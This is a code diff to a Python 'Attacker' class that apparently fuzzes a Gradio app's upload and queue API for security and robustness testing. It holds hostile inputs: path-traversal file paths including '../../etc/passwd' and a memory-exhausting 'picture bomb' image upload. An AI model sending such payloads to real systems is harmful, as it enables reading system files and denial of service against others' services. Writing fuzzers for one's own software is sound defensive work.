@@ -184,7 +184,7 @@ class Attacker:
             "meta": {"_type": "gradio.FileData"},
         }
         if rng.random() < 0.3:  # something that was uploaded, or that looks like it
-            found = _UPLOADED.search(self._post(form(mutated(self.clip, rng)), "/gradio_api/upload").decode("latin-1"))
+            found = self._uploaded(form(mutated(self.clip, rng)))
             name = found[0] if found and rng.random() < 0.5 else f"visitors/{'0f' * 32}/../../../../..{name}"
             file = {"path": name, "meta": {"_type": "gradio.FileData"}}
         return self._call(file, rng)
@@ -193,7 +193,9 @@ class Attacker:
         """Have one of the page's functions called, and wait for what it says."""
         session = f"s{rng.getrandbits(48):x}"
         value = {
-            "data": [file, rng.choice((None, "../../etc/passwd", 7)), rng.choice(("gta", "<b>", None)), "shuffle", 50],
+            "data": [file, rng.choice((None, "../../etc/passwd", 7)), rng.choice(("gta", "<b>", None)), "shuffle", 50][
+                : rng.randrange(1, 6)
+            ],
             "fn_index": rng.randrange(9),
             "session_hash": session,
             "event_data": None,
@@ -204,10 +206,14 @@ class Attacker:
             return answer
         return answer + self._send(f"GET /gradio_api/queue/data?session_hash={session} HTTP/1.1", timeout=20)
 
+    def _uploaded(self, body: bytes) -> "re.Match[str] | None":
+        """The path that an upload to the page gets."""
+        answer = self._post(body.replace(b'"file"', b'"files"', 1), "/gradio_api/upload")
+        return _UPLOADED.search(answer.decode("latin-1"))
+
     def _picture(self, rng: random.Random) -> bytes:
         """A picture for the camera that would fill the memory."""
-        upload = self._post(form(picture_bomb(), "x.png").replace(b'"file"', b'"files"', 1), "/gradio_api/upload")
-        found = _UPLOADED.search(upload.decode("latin-1"))
+        found = self._uploaded(form(picture_bomb(), "x.png"))
         return self._call({"path": found[0] if found else "x.png", "meta": {"_type": "gradio.FileData"}}, rng)
 
     def _upload(self, rng: random.Random) -> bytes:
